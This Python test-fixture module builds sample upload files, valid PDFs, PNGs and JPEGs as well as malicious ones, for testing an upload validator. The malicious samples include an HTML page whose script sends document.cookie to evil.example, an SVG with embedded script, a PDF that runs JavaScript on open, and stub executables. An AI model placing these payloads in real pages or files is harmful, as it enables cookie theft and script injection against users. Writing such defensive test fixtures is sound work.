"""Sample upload files generated in code (no binary fixture is committed).

Valid PDF, PNG and JPEG builders plus the bad files of the upload corpus
(renamed executables, polyglots, corrupt and truncated documents...).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from segur_app.domain.pdf import simple_pdf

# --------------------------------------------------------------------------- #
# PDF
# --------------------------------------------------------------------------- #

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def valid_pdf() -> bytes:
    return simple_pdf(["Procès-verbal de mise en service", "Établissement : CH Lyon Sud"])


def build_pdf(
    objects: list[bytes] | None = None,
    *,
    version: bytes = b"1.4",
    trailer_extra: bytes = b"",
    padding: int = 0,
    eol: bytes = b"\n",
) -> bytes:
    """A classic-xref PDF with ``objects`` numbered from 1 (object 1 = catalog).

    ``padding`` bytes of comment are inserted before the xref table (to reach
    an exact size while staying structurally valid).
    """
    objects = objects if objects is not None else [CATALOG, PAGES, PAGE]
    out = bytearray(b"%PDF-" + version + eol + b"%\xe2\xe3\xcf\xd3" + eol)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj" % number + eol + body + eol + b"endobj" + eol
    if padding:
        # A comment line: "%" + filler + EOL takes exactly ``padding`` bytes.
        out += b"%" + b"x" * (padding - 1 - len(eol)) + eol
    xref_at = len(out)
    out += b"xref" + eol + b"0 %d" % (len(objects) + 1) + eol + b"0000000000 65535 f\r\n"
    for offset in offsets:
        out += b"%010d 00000 n\r\n" % offset
    out += (
        b"trailer" + eol + b"<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer_extra
        + b">>" + eol + b"startxref" + eol + b"%d" % xref_at + eol + b"%%EOF" + eol
    )
    return bytes(out)


def pdf_of_size(size: int) -> bytes:
    """A valid PDF of exactly ``size`` bytes (padded with a comment)."""
    base = len(build_pdf(padding=0))
    padding = size - base
    for _ in range(5):  # startxref digits grow with the padding: converge
        data = build_pdf(padding=padding)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise AssertionError("could not reach the exact size")


def _stream_object(dictionary: bytes, data: bytes) -> bytes:
    return dictionary[:-2] + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def build_xref_stream_pdf(
    compressed: dict[int, bytes] | None = None,
    *,
    objstm_filter: bytes = b"/FlateDecode",
    xref_extra: bytes = b"",
    catalog: bytes = CATALOG,
) -> bytes:
    """PDF 1.5 whose objects 2.. live in a compressed object stream and whose
    cross-reference table is a stream (``/Type /XRef``)."""
    compressed = compressed if compressed is not None else {2: PAGES, 3: PAGE}
    numbers = sorted(compressed)
    header_parts, bodies, offset = [], b"", 0
    for number in numbers:
        header_parts.append(b"%d %d" % (number, offset))
        bodies += compressed[number] + b"\n"
        offset = len(bodies)
    header = b" ".join(header_parts) + b"\n"
    raw = header + bodies
    if objstm_filter == b"/FlateDecode":
        encoded = zlib.compress(raw)
    elif objstm_filter == b"/ASCIIHexDecode":
        encoded = raw.hex().encode() + b">"
    else:
        encoded = raw
    objstm_number = max(numbers) + 1
    xref_number = objstm_number + 1
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    offsets[1] = len(out)
    out += b"1 0 obj\n" + catalog + b"\nendobj\n"
    offsets[objstm_number] = len(out)
    objstm = _stream_object(
        b"<< /Type /ObjStm /N %d /First %d /Filter %s >>"
        % (len(numbers), len(header), objstm_filter),
        encoded,
    )
    out += b"%d 0 obj\n" % objstm_number + objstm + b"\nendobj\n"
    offsets[xref_number] = len(out)
    rows = bytearray()
    for number in range(xref_number + 1):
        if number == 0:
            rows += struct.pack(">BIH", 0, 0, 65535)
        elif number in compressed:
            rows += struct.pack(">BIH", 2, objstm_number, numbers.index(number))
        else:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
    xref = _stream_object(
        b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode %s>>"
        % (xref_number + 1, xref_extra),
        zlib.compress(bytes(rows)),
    )
    out += b"%d 0 obj\n" % xref_number + xref + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def pdf_with_javascript() -> bytes:
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            PAGES,
            PAGE,
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        ]
    )


def encrypted_pdf() -> bytes:
    return build_pdf(
        [CATALOG, PAGES, PAGE, b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 "
         b"/O <00> /U <00> >>"],
        trailer_extra=b"/Encrypt 4 0 R /ID [<0123456789abcdef> <0123456789abcdef>] ",
    )


# --------------------------------------------------------------------------- #
# PNG
# --------------------------------------------------------------------------- #

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(chunk_type: bytes, data: bytes, *, crc: int | None = None) -> bytes:
    value = zlib.crc32(chunk_type + data) if crc is None else crc
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", value)


def png_ihdr(width: int, height: int, depth: int = 8, colour: int = 2, interlace: int = 0) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace))


def png_idat(width: int, height: int, channels: int = 3) -> bytes:
    rows = b"".join(b"\x00" + bytes([(x * 40 + y * 20) % 256 for x in range(width * channels)])
                    for y in range(height))
    return png_chunk(b"IDAT", zlib.compress(rows))


def valid_png(width: int = 3, height: int = 2) -> bytes:
    return (
        PNG_SIGNATURE
        + png_ihdr(width, height)
        + png_chunk(b"tEXt", b"Comment\x00Attestation")
        + png_idat(width, height)
        + png_chunk(b"IEND", b"")
    )


def interlaced_png(width: int = 5, height: int = 5) -> bytes:
    """Adam7, grey 8 bits: every pass row gets its filter byte."""
    raw = bytearray()
    for x0, y0, dx, dy in ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4),
                           (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)):
        pass_width = (width - x0 + dx - 1) // dx
        pass_height = (height - y0 + dy - 1) // dy
        if pass_width > 0 and pass_height > 0:
            raw += (b"\x00" + b"\x80" * pass_width) * pass_height
    return (
        PNG_SIGNATURE
        + png_ihdr(width, height, colour=0, interlace=1)
        + png_chunk(b"IDAT", zlib.compress(bytes(raw)))
        + png_chunk(b"IEND", b"")
    )


# --------------------------------------------------------------------------- #
# JPEG
# --------------------------------------------------------------------------- #


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_parts(width: int = 8, height: int = 8) -> tuple[bytes, bytes, bytes]:
    """(headers up to SOS included, entropy-coded data, EOI) of a baseline
    greyscale JPEG where every 8x8 block is flat mid-grey.

    Huffman tables hold a single 1-bit code each: DC category 0 and AC EOB,
    so each block is coded as the two bits ``00``.
    """
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    headers = (
        b"\xff\xd8"
        + _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + _segment(0xDB, b"\x00" + b"\x01" * 64)
        + _segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
        + _segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")
        + _segment(0xC4, b"\x10" + b"\x01" + b"\x00" * 15 + b"\x00")
        + _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    )
    bits = "00" * blocks
    bits += "1" * (-len(bits) % 8)
    entropy = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return headers, entropy, b"\xff\xd9"


def valid_jpeg(width: int = 8, height: int = 8) -> bytes:
    return b"".join(jpeg_parts(width, height))


def multi_picture_jpeg() -> bytes:
    """A camera-style MPF file: primary image (with an APP2 ``MPF`` segment)
    followed by a second complete JPEG."""
    headers, entropy, eoi = jpeg_parts(16, 16)
    mpf = _segment(0xE2, b"MPF\x00" + b"MM\x00\x2a\x00\x00\x00\x08" + b"\x00" * 8)
    primary = headers[:2] + mpf + headers[2:] + entropy + eoi
    return primary + valid_jpeg(8, 8)


# --------------------------------------------------------------------------- #
# Other formats (wrong content)
# --------------------------------------------------------------------------- #


def elf_executable() -> bytes:
    header = (
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )
    program_header = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 256, 256, 0x1000)
    return (header + program_header).ljust(256, b"\x90")


def pe_executable() -> bytes:
    dos = bytearray(b"MZ" + b"\x90\x00" * 29)
    dos = dos.ljust(0x3C, b"\x00") + struct.pack("<I", 0x80)
    dos = dos.ljust(0x80, b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<H", 0x20B).ljust(0xF0, b"\x00")
    return bytes(dos + coff + optional).ljust(1024, b"\x00")


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Facture</title></head>\n"
    b"<body><script>document.location='https://evil.example/'+document.cookie</script>"
    b"</body></html>\n"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
TEXT = "Relevé d'identité bancaire\nIBAN FR76 3000 6000 0112 3456 7890 189\n".encode()
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


def webp() -> bytes:
    vp8l = b"\x2f\x00\x00\x00\x00\x88\x88\x08\x00"  # 1x1 lossless bitstream header
    chunk = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l + b"\x00" * (len(vp8l) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def zip_archive(files: dict[str, bytes] | None = None, *, comment: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (files or {"payload.exe": elf_executable()}).items():
            archive.writestr(name, content)
        archive.comment = comment
    return buffer.getvalue()


def docx() -> bytes:
    return zip_archive(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/content-types"><Override PartName="/word/'
            b'document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
        }
    )
